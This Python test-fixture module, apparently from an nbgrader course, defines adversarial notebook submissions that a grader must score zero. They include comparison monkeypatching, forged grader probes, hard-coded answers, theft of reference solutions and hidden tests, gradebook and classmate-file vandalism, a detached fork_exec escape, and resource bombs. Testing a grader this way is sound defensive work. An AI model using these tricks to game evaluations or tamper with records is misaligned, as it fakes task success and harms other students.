"""Submissions that try to fool or break the grader, honest alternatives, and damaged notebooks.

Each :class:`AdversarialSubmission` says what it attempts and which test cells must score zero;
every other autograded cell must keep full marks. ``make grade`` adds them to the demo class, and
``tests/test_adversarial.py`` grades them all through nbgrader and asserts exactly that, plus that
the gradebook, the other students' folders and the submissions themselves come out untouched.

``{course_root}`` in a source is replaced by the course's absolute path when the class is built: the
attacker is assumed to know where the instructor keeps the course.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from string import Template

from pathlib import Path

import nbformat

from course_utils.grading.course import Course
from course_utils.grading.planted import _PATCH_COMPARISONS, sgd_source
from course_utils.grading.submissions import Replacement, fill_submission

__all__ = ["AdversarialSubmission", "ADVERSARIAL", "ESCAPE_MARKER", "adversarial_for", "DAMAGES", "write_adversarial"]


@dataclass(frozen=True)
class AdversarialSubmission:
    student_id: str
    attempt: str  # what the submission tries, in words
    assignment: str
    replacements: Mapping[str, Replacement] = field(default_factory=dict)
    loses: frozenset[str] = frozenset()  # test cells that must score zero ("*": every autograded cell)
    extra_files: Mapping[str, str] = field(default_factory=dict)  # files submitted beside the notebook
    damage: str | None = None  # a key of DAMAGES, applied to the notebook's JSON text
    graded: bool = True  # False: the grader must refuse it (and say why) without crashing


_SGD_CELLS = frozenset({"test_SGD_plain", "test_SGD_momentum", "test_SGD_contract"})
_WRONG_MOMENTUM = "buf.mul_(self.momentum).add_(g, alpha=1 - self.momentum)"


def _wrong_sgd(label: str, prelude: str = "", **changes: str) -> str:
    """An SGD whose momentum is an average (a real mistake), with ``prelude`` run before the class."""
    return sgd_source(label, prelude=prelude, momentum=_WRONG_MOMENTUM, **changes)


# --- the attacks -------------------------------------------------------------------------------------------

_REPLACE_TORCH_SGD = '''
import torch.optim
'''
_AFTER_REPLACE = '''
torch.optim.SGD = SGD          # the checks' reference is now the student's class
torch.optim.sgd.SGD = SGD
'''

_NBGRADER_ONLY = '''import os
if os.environ.get("NBGRADER_EXECUTION"):
    for _name in dir(checks):
        if _name.startswith("check_"):
            setattr(checks, _name, lambda *args, **kwargs: None)
'''

_INPUT_TRANSFORMER = '''def _blank_checks(lines):
    return [] if any("checks." in line for line in lines) else lines
get_ipython().input_transformers_post.append(_blank_checks)
'''

_AST_TRANSFORMER = '''import ast
class _Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        guarded = ast.Try(body=node.body or [ast.Pass()], handlers=[ast.ExceptHandler(
            type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])], orelse=[], finalbody=[])
        return ast.fix_missing_locations(ast.Module(body=[guarded], type_ignores=[]))
get_ipython().ast_transformers.append(_Swallow())
'''

_TORCH_FUNCTION = '''
class _Agreeable(torch.Tensor):
    """Every comparison involving this tensor says 'equal'."""
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal", "isclose", "eq", "__eq__", "all", "any", "ne"):
            result = super().__torch_function__(func, types, args, kwargs or {})
            return True if name in ("allclose", "equal", "all") else (
                torch.ones_like(torch.Tensor.as_subclass(result, torch.Tensor), dtype=torch.bool) if name != "any" and name != "ne" else False)
        return super().__torch_function__(func, types, args, kwargs or {})
'''

_GD = Template('''$prelude
def gradient_descent_by_hand(fn, xy, lr, n_iters=100):
    """$doc"""
    $setup
    point = xy.detach().clone().requires_grad_(True)
    rows = []
    for _ in $steps:
        rows.append(point.detach().clone())
        $loss(point[0], point[1]).backward()
        with torch.no_grad():
            point -= lr * point.grad
        point.grad = None
    return torch.stack(rows)
''')


def _gd_source(doc: str, *, prelude: str = "", setup: str = "", steps: str = "range(n_iters)", loss: str = "fn") -> str:
    """A correct gradient_descent_by_hand cell, with the named slots changed."""
    return _GD.substitute(prelude=prelude, doc=doc, setup=setup, steps=steps, loss=loss)


_HARD_CODED_GD = _gd_source(
    "Answers only the starting points the checks are known to use (pre-computed at home).",
    setup="key = tuple(round(float(v), 6) for v in xy)\n"
          "    if key not in {(-1.5, 2.5), (2.5, 1.0), (1.0, -2.0), (0.5, 0.5), (0.0, 0.0)}:\n"
          "        return torch.zeros(n_iters, 2, dtype=xy.dtype, device=xy.device)")


_ALWAYS_EQUAL_GD = '''
class _AlwaysEqual:
    """Equal to anything, shaped like anything."""
    shape = property(lambda self: self._shape)
    dtype = torch.float64
    def __init__(self, n): self._shape = torch.Size([n, 2])
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __getitem__(self, index): return self
    def detach(self): return self
    def to(self, *args, **kwargs): return self
    def __float__(self): return 0.0
def gradient_descent_by_hand(fn, xy, lr, n_iters=100):
    return _AlwaysEqual(n_iters)
'''

_OS_EXIT_STEP = "import os\n"
_SEGFAULT = "import faulthandler\n"
_LOOP = '''
def _spin():
    while True:
        try:
            while True:
                pass
        except KeyboardInterrupt:
            continue
'''
_MEMORY_BOMB = '''
def _hog():
    blocks = []
    while True:
        blocks.append(bytearray(200 * 1024 * 1024))
'''

_WRITE_GRADEBOOK = '''import os, sqlite3
_ROOT = "{course_root}"
for _attempt in (
    lambda: open(os.path.join(_ROOT, "gradebook.db"), "ab").write(b"garbage"),
    lambda: sqlite3.connect(os.path.join(_ROOT, "gradebook.db")).execute("UPDATE grade SET manual_score = 99"),
    lambda: open(os.path.join(_ROOT, "submitted", "reference", "01_sgd", "01_sgd.ipynb"), "w").write("{{}}"),
    lambda: os.remove(os.path.join(_ROOT, "submitted", "blank", "01_sgd", "01_sgd.ipynb")),
    lambda: open(os.path.join(_ROOT, "autograded", "reference", "01_sgd", "01_sgd.ipynb"), "w").write("{{}}"),
):
    try:
        _attempt()
    except Exception:
        pass
'''

_TAKE_REFERENCE_SGD = '''        for _cell in json.load(_f)["cells"]:
            _text = "".join(_cell["source"])
            if _text.startswith("class SGD"):
                _stolen = _text
'''
"""Run inside ``with ... as _f:`` on the reference notebook: keeps its SGD cell in ``_stolen``."""

_READ_REFERENCE = '''import json, os, re
_ROOT = "{course_root}"
_stolen = None
try:
    with open(os.path.join(_ROOT, "solutions", "01_sgd", "01_sgd.ipynb")) as _f:
''' + _TAKE_REFERENCE_SGD + '''except Exception:
    pass
try:
    import sqlite3
    _hidden = sqlite3.connect(os.path.join(_ROOT, "gradebook.db")).execute("SELECT source FROM source_cell").fetchall()
except Exception:
    _hidden = None
'''
_AFTER_READ = '''
if _stolen:
    exec(_stolen)   # the reference SGD replaces the student's
'''

_PATCH_EQ = '''import builtins
torch.Tensor.__eq__ = lambda self, other: torch.ones_like(torch.Tensor.as_subclass(self, torch.Tensor), dtype=torch.bool)
builtins.isinstance = (lambda original: lambda obj, cls: True if cls is torch.Tensor else original(obj, cls))(builtins.isinstance)
'''

_SETTRACE = '''import sys
def _tracer(frame, event, arg):
    return None
sys.settrace(_tracer)
'''

_NUMPY_SHADOW = '''raise SystemExit("a numpy.py beside the notebook took over the import")\n'''
_TORCH_SHADOW = '''raise SystemExit("a torch.py beside the notebook took over the import")\n'''

# --- attacks on the operating system's view: each was a real hole before the sandbox --------------------

_DIR_FD_STEAL = '''import json, os
_stolen = None
try:
    _root = os.open("{course_root}", os.O_RDONLY)     # a folder descriptor: the path checked is now relative
    with os.fdopen(os.open("solutions/01_sgd/01_sgd.ipynb", os.O_RDONLY, dir_fd=_root)) as _f:
''' + _TAKE_REFERENCE_SGD + '''except Exception:
    pass
'''

_VANDAL = '''import os, sqlite3
_ROOT = "{course_root}"
def _try(attempt):
    try:
        attempt()
    except Exception:
        pass
def _gradebook():
    db = sqlite3.connect(f"file://{{_ROOT}}/gradebook.db?mode=rw", uri=True)
    db.execute("UPDATE grade SET manual_score = 99")
    db.execute("UPDATE grade SET auto_score = 0")
    db.commit()
def _classmate():
    root = os.open(_ROOT, os.O_RDONLY)
    victim = os.open("submitted/reference/01_sgd/01_sgd.ipynb", os.O_WRONLY | os.O_TRUNC, dir_fd=root)
    os.write(victim, b"{{}}")
def _reference_record():
    cache = os.open(".recheck", os.O_RDONLY, dir_fd=os.open(_ROOT, os.O_RDONLY))
    for name in os.listdir(cache):
        record = os.open(name + "/records.pt", os.O_WRONLY | os.O_TRUNC, dir_fd=cache)
        os.write(record, b"poisoned")
for _attempt in (_gradebook, _classmate, _reference_record):
    _try(_attempt)
'''

_FIND_PROBES = '''import sys
def _grader_probes():
    frame = sys._getframe()
    while frame is not None:
        found = frame.f_locals.get("probes")
        if isinstance(found, dict):
            return found
        frame = frame.f_back
    return None
'''

_FORGE_FROM_RECORD = _FIND_PROBES + '''import dataclasses, glob
def _copier(grade_id):
    def run(rec, namespace):
        for path in glob.glob("{course_root}/.recheck/*/records.pt"):
            rec.entries.extend(torch.load(path, weights_only=True).get(grade_id, []))
            return
        raise RuntimeError("no reference record in reach")
    return run
_probes = _grader_probes()
if _probes:
    for _grade_id, _probe in list(_probes.items()):
        _probes[_grade_id] = dataclasses.replace(_probe, run=_copier(_grade_id))
'''

_FORGE_CONTRACT = _FIND_PROBES + '''import dataclasses, os
if os.environ.get("NBGRADER_EXECUTION"):   # in the grading kernel: the notebook's own contract check says nothing
    checks.check_sgd_contract = lambda *args, **kwargs: None
_probes = _grader_probes()
if _probes and "test_SGD_contract" in _probes:
    _real = _probes["test_SGD_contract"]
    def _forged(rec, namespace):
        _real.run(rec, namespace)
        rec.entries[:] = [(where, True if value is False else value) for where, value in rec.entries]
    _probes["test_SGD_contract"] = dataclasses.replace(_real, run=_forged)
'''

_FUSED_SGD = '''@torch.no_grad()
def _fused_step(p, buffers, lr, momentum, weight_decay):
    first = p not in buffers
    if momentum and first:
        buffers[p] = torch.zeros_like(p)
    torch.ops.aten._fused_sgd_([p], [p.grad], [buffers[p]] if momentum else [], weight_decay=weight_decay,
                               momentum=momentum, lr=lr, dampening=0.0, nesterov=False, maximize=False,
                               is_first_step=first)
'''

_SUBCLASSES_SGD = '''import torch.optim
_Real = next(c for c in torch.optim.Optimizer.__subclasses__() if c.__name__ == "SGD")   # torch's own, found through the hierarchy
class SGD:
    def __init__(self, params, lr=1e-3, momentum=0.0, weight_decay=0.0):
        self._inner = _Real(params, lr=lr, momentum=momentum, weight_decay=weight_decay)
        self.params = self._inner.param_groups[0]["params"]
    def zero_grad(self):
        self._inner.zero_grad()
    def step(self):
        self._inner.step()
'''

_FAKE_CHALLENGE = '''class _Teleport:
    """Not an optimizer: writes the minimum into the parameter."""
    def __init__(self, params, **kwargs):
        self.params = list(params)
    def zero_grad(self):
        pass
    def step(self):
        with torch.no_grad():
            for p in self.params:
                p.fill_(1.0)
challenge_optimizer_class = _Teleport
challenge_hyperparams = {}
challenge_n_iters = 1
'''

ESCAPE_MARKER = "course-grading-escape-marker"
"""A word in the command line of the program the escape attack starts: a test looks for it afterwards."""

_ESCAPE = '''import os, sys, _posixsubprocess
def _escape():
    program = [sys.executable, "-c", "import time, os; time.sleep(90); print(os.listdir('{course_root}/solutions'))",
               "%s"]
    read_end, write_end = os.pipe()
    head = (program, [os.fsencode(program[0])], True, (), None, None, -1, -1, -1, -1, -1, -1, read_end, write_end,
            False, True)
    for tail in ((-1, None, None, None, -1, None, False), (-1, None, None, None, -1, None), (None, None, None, -1, None)):
        try:
            _posixsubprocess.fork_exec(*head, *tail)
            return
        except TypeError:
            continue
try:
    _escape()
except Exception:
    pass
''' % ESCAPE_MARKER

_FLOOD = "print('x' * 300_000_000)   # 300 MB of output\n"

_KEEP_ALIVE = '''import time
def _keep_alive():
    while True:   # the re-check used to watch its progress file for growth: keep it growing
        with open("progress.jsonl", "a") as _f:
            _f.write("{{}}\\n")
        time.sleep(0.2)
'''

# --- honest alternatives that must keep full marks ----------------------------------------------------------

_SGD_INDEX_STATE = '''
class SGD:
    """Momentum buffers in a list indexed like the parameters; functional-style arithmetic."""

    def __init__(self, params, lr=1e-3, momentum=0.0, weight_decay=0.0):
        for name, value in (("learning rate", lr), ("momentum value", momentum), ("weight_decay value", weight_decay)):
            if value < 0:
                raise ValueError(f"Invalid {name}: {value}")
        self.params = list(params)
        self.lr, self.momentum, self.weight_decay = lr, momentum, weight_decay
        self.buffers = [None] * len(self.params)

    def zero_grad(self):
        for p in self.params:
            p.grad = None

    def step(self):
        with torch.no_grad():
            for i, p in enumerate(self.params):
                if p.grad is None:
                    continue
                d_p = p.grad + self.weight_decay * p if self.weight_decay else p.grad
                if self.momentum:
                    if self.buffers[i] is None:
                        self.buffers[i] = d_p.detach().clone()
                    else:
                        self.buffers[i] = self.momentum * self.buffers[i] + d_p
                    d_p = self.buffers[i]
                p.sub_(self.lr * d_p)
'''

_SGD_OPTIMIZER_SUBCLASS = '''
class SGD(torch.optim.Optimizer):
    """Written on torch.optim.Optimizer (allowed): param_groups and self.state, updates with add_."""

    def __init__(self, params, lr=1e-3, momentum=0.0, weight_decay=0.0):
        if lr < 0 or momentum < 0 or weight_decay < 0:
            raise ValueError(f"Invalid hyper-parameter: lr={lr}, momentum={momentum}, weight_decay={weight_decay}")
        super().__init__(params, dict(lr=lr, momentum=momentum, weight_decay=weight_decay))

    @torch.no_grad()
    def step(self, closure=None):
        for group in self.param_groups:
            for p in group["params"]:
                if p.grad is None:
                    continue
                g = p.grad
                if group["weight_decay"]:
                    g = g.add(p, alpha=group["weight_decay"])
                if group["momentum"]:
                    state = self.state[p]
                    if "buf" not in state:
                        state["buf"] = g.clone()
                    else:
                        state["buf"].mul_(group["momentum"]).add_(g)
                    g = state["buf"]
                p.add_(g, alpha=-group["lr"])
'''

_GD_LIST = '''
def gradient_descent_by_hand(fn, xy, lr, n_iters=100):
    """Rows collected in a list and stacked; the step written with .data."""
    point = xy.detach().clone()
    rows = []
    for _ in range(n_iters):
        rows.append(point.clone())
        point.requires_grad_(True)
        fn(point[0], point[1]).backward()
        point = (point - lr * point.grad).detach()
    return torch.stack(rows)
'''


_GD_TQDM = _gd_source("Correct, with a progress bar on stderr.", prelude="from tqdm import tqdm",
                      steps='tqdm(range(n_iters), desc="descending")')

_CXX_WARNING = "import sys\nsys.stderr.write('[W NNPACK.cpp:64] Could not initialize NNPACK! Reason: Unsupported hardware.\\n')\n"

_GD_COMPILED = _gd_source("Correct; the landscape is compiled with torch.compile (eager backend).",
                          setup='compiled = torch.compile(fn, backend="eager")', loss="compiled")

_CHALLENGE_WITH_HELPER = '''challenge_optimizer_class = torch.optim.Adam
challenge_hyperparams = {"lr": 0.06, "betas": (0.9, 0.9)}
challenge_n_iters = steps_needed(challenge_optimizer_class, challenge_hyperparams) + 60   # the playground's helper
'''


def _strip_metadata(text: str) -> str:
    nb = json.loads(text)
    for cell in nb["cells"]:
        cell.get("metadata", {}).pop("nbgrader", None)
    nb["metadata"]["colab"] = {"provenance": []}
    return json.dumps(nb, indent=1)


def _edit_test_cell(text: str) -> str:
    nb = json.loads(text)
    for cell in nb["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "test_SGD_momentum":
            cell["source"] = "pass  # the check was removed"
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "test_SGD_plain":
            cell["metadata"]["nbgrader"]["grade"] = False  # flipped
    return json.dumps(nb, indent=1)


def _shuffle_and_duplicate(text: str) -> str:
    nb = json.loads(text)
    cells = nb["cells"]
    answer = next(i for i, c in enumerate(cells) if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "SGD")
    cells.insert(answer + 1, json.loads(json.dumps(cells[answer])))  # a duplicated answer cell
    tests = [i for i, c in enumerate(cells) if c.get("metadata", {}).get("nbgrader", {}).get("grade_id", "").startswith("test_SGD")]
    cells[tests[0]], cells[tests[-1]] = cells[tests[-1]], cells[tests[0]]  # two test cells swapped
    for cell in cells:
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "left over\n"}]
            cell["execution_count"] = 7
    return json.dumps(nb, indent=1)


def _truncate(text: str) -> str:
    return text[: len(text) // 2]


DAMAGES: Mapping[str, Callable[[str], str]] = {
    "strip_metadata": _strip_metadata,
    "edit_test_cell": _edit_test_cell,
    "shuffle_and_duplicate": _shuffle_and_duplicate,
    "truncate": _truncate,
}

_A = "01_sgd"

ADVERSARIAL: tuple[AdversarialSubmission, ...] = (
    # patching what the checks call
    AdversarialSubmission("x_patch_allclose", "wrong momentum; patches torch.allclose, torch.equal, numpy.allclose and "
                          "numpy.testing to pass", _A, {"SGD": _wrong_sgd("patch comparisons", prelude=_PATCH_COMPARISONS)},
                          frozenset({"*"})),
    AdversarialSubmission("x_patch_testing", "wrong momentum; patches torch.testing.assert_close and numpy.testing", _A,
                          {"SGD": _wrong_sgd("patch testing", prelude="import numpy.testing, torch.testing\n"
                                             "torch.testing.assert_close = lambda *a, **k: None\n"
                                             "numpy.testing.assert_allclose = lambda *a, **k: None\n")},
                          frozenset({"*"})),
    AdversarialSubmission("x_patch_eq_isinstance", "wrong momentum; Tensor.__eq__ always true, isinstance patched", _A,
                          {"SGD": _wrong_sgd("patch eq", prelude=_PATCH_EQ)}, frozenset({"*"})),
    AdversarialSubmission("x_settrace", "wrong momentum; installs a trace function (it could rewrite the checks' frames)", _A,
                          {"SGD": _wrong_sgd("settrace", prelude=_SETTRACE)}, frozenset({"*"})),
    AdversarialSubmission("x_replace_torch_sgd", "wrong momentum; replaces torch.optim.SGD, the checks' reference, with it "
                          "(its plain steps are right, but the notebook's own plain check then breaks on the swap)", _A,
                          {"SGD": _wrong_sgd("replaces torch.optim.SGD", prelude=_REPLACE_TORCH_SGD) + _AFTER_REPLACE},
                          frozenset({"test_SGD_plain", "test_SGD_momentum", "test_opt_fn_with_sgd"})),
    AdversarialSubmission("x_wrap_torch_sgd", "SGD builds a torch.optim.SGD inside and delegates to it", _A,
                          {"SGD": '''class SGD:
    def __init__(self, params, lr=1e-3, momentum=0.0, weight_decay=0.0):
        self._inner = torch.optim.SGD(params, lr=lr, momentum=momentum, weight_decay=weight_decay)
        self.params = self._inner.param_groups[0]["params"]
    def zero_grad(self):
        self._inner.zero_grad()
    def step(self):
        self._inner.step()
'''}, _SGD_CELLS),
    AdversarialSubmission("x_functional_kernel", "SGD calls torch.optim's functional kernel torch.optim.sgd.sgd", _A,
                          {"SGD": sgd_source("functional kernel", prelude="import torch.optim.sgd as _k\n",
                                             apply="_k.sgd([p], [p.grad], [None], weight_decay=self.weight_decay, momentum=0.0, "
                                                   "lr=self.lr, dampening=0.0, nesterov=False, maximize=False)")},
                          _SGD_CELLS),
    AdversarialSubmission("x_torch_function", "step() turns parameters into a Tensor subclass whose comparisons always agree", _A,
                          {"SGD": sgd_source("tensor subclass", prelude=_TORCH_FUNCTION,
                                             apply="p.data = p.data.as_subclass(_Agreeable)")},
                          _SGD_CELLS),
    AdversarialSubmission("x_always_equal", "gradient_descent_by_hand returns an object equal to everything", _A,
                          {"gradient_descent_by_hand": _ALWAYS_EQUAL_GD}, frozenset({"test_gradient_descent_by_hand"})),
    AdversarialSubmission("x_hard_coded", "gradient_descent_by_hand answers only the checks' known starting points", _A,
                          {"gradient_descent_by_hand": _HARD_CODED_GD}, frozenset({"test_gradient_descent_by_hand"})),
    AdversarialSubmission("x_nbgrader_execution", "wrong momentum; disables the checks when NBGRADER_EXECUTION is set", _A,
                          {"SGD": _wrong_sgd("grader-aware", prelude=_NBGRADER_ONLY)}, frozenset({"test_SGD_momentum"})),
    AdversarialSubmission("x_input_transformer", "wrong momentum; an IPython input transformer blanks every check cell", _A,
                          {"SGD": _wrong_sgd("input transformer", prelude=_INPUT_TRANSFORMER)}, frozenset({"test_SGD_momentum"})),
    AdversarialSubmission("x_ast_transformer", "wrong momentum; an AST transformer wraps every cell in try/except", _A,
                          {"SGD": _wrong_sgd("ast transformer", prelude=_AST_TRANSFORMER)}, frozenset({"test_SGD_momentum"})),
    AdversarialSubmission("x_shadow_modules", "numpy.py and torch.py submitted beside a correct notebook", _A,
                          {}, frozenset(), extra_files={"numpy.py": _NUMPY_SHADOW, "torch.py": _TORCH_SHADOW}),
    AdversarialSubmission("x_sys_exit", "SGD.step() calls sys.exit()", _A,
                          {"SGD": sgd_source("sys.exit", prelude="import sys\n", apply="sys.exit(0)")}, _SGD_CELLS),
    AdversarialSubmission("x_os_exit", "SGD.step() calls os._exit(0), killing the kernel", _A,
                          {"SGD": sgd_source("os._exit", prelude=_OS_EXIT_STEP, apply="os._exit(0)")}, _SGD_CELLS),
    AdversarialSubmission("x_segfault", "SGD.step() crashes the interpreter with a segmentation fault", _A,
                          {"SGD": sgd_source("segfault", prelude=_SEGFAULT, apply="faulthandler._sigsegv()")}, _SGD_CELLS),
    AdversarialSubmission("x_infinite_loop", "SGD.step() loops forever and ignores KeyboardInterrupt", _A,
                          {"SGD": sgd_source("endless loop", prelude=_LOOP, apply="_spin()")}, _SGD_CELLS),
    AdversarialSubmission("x_memory_bomb", "SGD.step() allocates memory until none is left", _A,
                          {"SGD": sgd_source("memory bomb", prelude=_MEMORY_BOMB, apply="_hog()")}, _SGD_CELLS),
    AdversarialSubmission("x_write_gradebook", "correct answers; writes to the gradebook, other students' and graded folders", _A,
                          {"SGD": sgd_source("vandal", prelude=_WRITE_GRADEBOOK)}, frozenset()),
    AdversarialSubmission("x_read_reference", "wrong momentum; reads the reference SGD and hidden tests from disk and runs them", _A,
                          {"SGD": _wrong_sgd("thief", prelude=_READ_REFERENCE) + _AFTER_READ}, frozenset({"test_SGD_momentum"})),
    # beyond Python's guards: the operating system's view, the grader's own process, torch's kernels
    AdversarialSubmission("x_dir_fd_steal", "wrong momentum; reads the reference SGD through a folder descriptor "
                          "(os.open(..., dir_fd=...)) and runs it", _A,
                          {"SGD": _wrong_sgd("dir_fd thief", prelude=_DIR_FD_STEAL) + _AFTER_READ}, frozenset({"test_SGD_momentum"})),
    AdversarialSubmission("x_vandal_uri_dir_fd", "correct answers; writes the gradebook through a sqlite URI (manual "
                          "scores to 99, everyone's automatic scores to 0), truncates a classmate's notebook and poisons "
                          "the cached reference record through folder descriptors", _A,
                          {"SGD": sgd_source("vandal", prelude=_VANDAL)}, frozenset()),
    AdversarialSubmission("x_forge_probes", "wrong momentum; walks the stack to the grader's probes and makes each copy "
                          "the cached reference record", _A,
                          {"SGD": _wrong_sgd("probe forger", prelude=_FORGE_FROM_RECORD)}, frozenset({"*"})),
    AdversarialSubmission("x_forge_contract", "SGD not in place; turns off the notebook's contract check and rewrites the "
                          "re-check's contract facts to true", _A,
                          {"SGD": sgd_source("contract forger", prelude=_FORGE_CONTRACT, apply="p.data = p.data - self.lr * g")},
                          frozenset({"test_SGD_contract"})),
    AdversarialSubmission("x_fused_kernel", "SGD.step() calls torch.ops.aten._fused_sgd_, torch's fused SGD kernel", _A,
                          {"SGD": sgd_source("fused kernel", prelude=_FUSED_SGD, skip="if p.grad is None:\n                continue\n"
                                             "            _fused_step(p, self.state, self.lr, self.momentum, self.weight_decay)\n"
                                             "            continue")},
                          _SGD_CELLS),
    AdversarialSubmission("x_subclasses", "SGD delegates to torch's real SGD found through Optimizer.__subclasses__()", _A,
                          {"SGD": _SUBCLASSES_SGD}, _SGD_CELLS),
    AdversarialSubmission("x_fake_challenge", "the challenge's 'optimizer' writes the minimum (1, 1) into the parameter", _A,
                          {"challenge": _FAKE_CHALLENGE}, frozenset({"test_challenge"})),
    AdversarialSubmission("x_escape", "correct answers; starts a program with _posixsubprocess.fork_exec in its own "
                          "session, to outlive grading and read solutions/", _A,
                          {"SGD": sgd_source("escape", prelude=_ESCAPE)}, frozenset()),
    AdversarialSubmission("x_output_flood", "correct answers, but the SGD cell prints 300 MB", _A,
                          {"SGD": sgd_source("flood", prelude=_FLOOD)}, _SGD_CELLS),
    AdversarialSubmission("x_keep_alive", "SGD.step() loops forever, appending to the re-check's progress file", _A,
                          {"SGD": sgd_source("keep alive", prelude=_KEEP_ALIVE, apply="_keep_alive()")}, _SGD_CELLS),
    # honest alternatives: full marks
    AdversarialSubmission("ok_index_state", "honest: momentum buffers in a list by index, out-of-place arithmetic", _A,
                          {"SGD": _SGD_INDEX_STATE}, frozenset()),
    AdversarialSubmission("ok_optimizer_subclass", "honest: SGD on torch.optim.Optimizer with param_groups and self.state", _A,
                          {"SGD": _SGD_OPTIMIZER_SUBCLASS}, frozenset()),
    AdversarialSubmission("ok_gd_list", "honest: gradient descent with a list of rows and out-of-place steps", _A,
                          {"gradient_descent_by_hand": _GD_LIST}, frozenset()),
    AdversarialSubmission("ok_tqdm", "honest: a tqdm progress bar (stderr) in gradient descent, a C++-style warning on "
                          "stderr from SGD", _A,
                          {"gradient_descent_by_hand": _GD_TQDM, "SGD": sgd_source("warns", prelude=_CXX_WARNING)}, frozenset()),
    AdversarialSubmission("ok_torch_compile", "honest: the landscape compiled with torch.compile(backend='eager')", _A,
                          {"gradient_descent_by_hand": _GD_COMPILED}, frozenset()),
    AdversarialSubmission("ok_challenge_helper", "honest: the challenge with another budget than the reference's, found "
                          "with a helper defined in a playground cell", _A,
                          {"challenge": _CHALLENGE_WITH_HELPER}, frozenset()),
    # damaged notebooks
    AdversarialSubmission("d_colab_stripped", "correct answers; every cell's nbgrader metadata gone (saved by Colab)", _A,
                          {}, frozenset(), damage="strip_metadata"),
    AdversarialSubmission("d_edited_tests", "wrong momentum; deletes the momentum check and flips a test cell's grade flag", _A,
                          {"SGD": _wrong_sgd("edits tests")}, frozenset({"test_SGD_momentum"}), damage="edit_test_cell"),
    AdversarialSubmission("d_shuffled", "correct answers; a duplicated answer cell, test cells swapped, outputs left in", _A,
                          {}, frozenset(), damage="shuffle_and_duplicate"),
    AdversarialSubmission("d_invalid_json", "a notebook file cut in half (invalid JSON)", _A,
                          {}, frozenset({"*"}), damage="truncate", graded=False),
)


def adversarial_for(assignment: str) -> tuple[AdversarialSubmission, ...]:
    return tuple(s for s in ADVERSARIAL if s.assignment == assignment)



def write_adversarial(submission: AdversarialSubmission, release: nbformat.NotebookNode, source: nbformat.NotebookNode,
                      course: Course) -> Path:
    """Write ``submission`` into ``course``'s submitted/ folder (notebook, damage, files beside it); return its path."""
    root = str(course.root.resolve())
    replacements = {
        grade_id: (value.replace("{course_root}", root) if isinstance(value, str) else value)
        for grade_id, value in submission.replacements.items()
    }
    notebook = fill_submission(release, source, replacements)
    path = course.submission_path(submission.student_id, submission.assignment)
    path.parent.mkdir(parents=True, exist_ok=True)
    text = nbformat.writes(notebook)
    if submission.damage is not None:
        text = DAMAGES[submission.damage](text)
    path.write_text(text)
    for name, content in submission.extra_files.items():
        (path.parent / name).write_text(content)
    return path
